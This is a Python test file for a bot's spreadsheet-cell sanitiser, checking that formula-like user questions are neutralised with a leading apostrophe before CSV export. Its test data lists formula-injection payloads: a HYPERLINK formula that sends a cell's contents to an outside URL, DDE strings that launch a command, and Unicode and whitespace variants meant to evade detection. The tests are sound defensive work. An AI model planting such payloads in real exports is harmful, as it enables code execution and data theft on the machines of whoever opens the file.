"""No cell of a spreadsheet is run, and none loses a letter."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.cells import cell

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1;"here")',
    "+358",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_question_that_is_a_formula_is_text(formula: str) -> None:
    """Coordinators open the file in a spreadsheet; what a stranger wrote must not run there."""
    assert cell(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["чи є курси", "", "a=b", "3-4", "e@x.fi", "'"])
def test_what_is_no_formula_stays(text: str) -> None:
    """An apostrophe before every question would be read as part of it."""
    assert cell(text) == text


@given(st.text(), st.text())
def test_cells_come_back_as_they_were(first: str, second: str) -> None:
    """Through the csv module, with commas, quotes and line ends in them."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell(first), cell(second), "last"])
    file.seek(0)

    (row,) = csv.reader(file)
    assert row == [cell(first), cell(second), "last"]
    assert cell(first) in (first, f"'{first}")
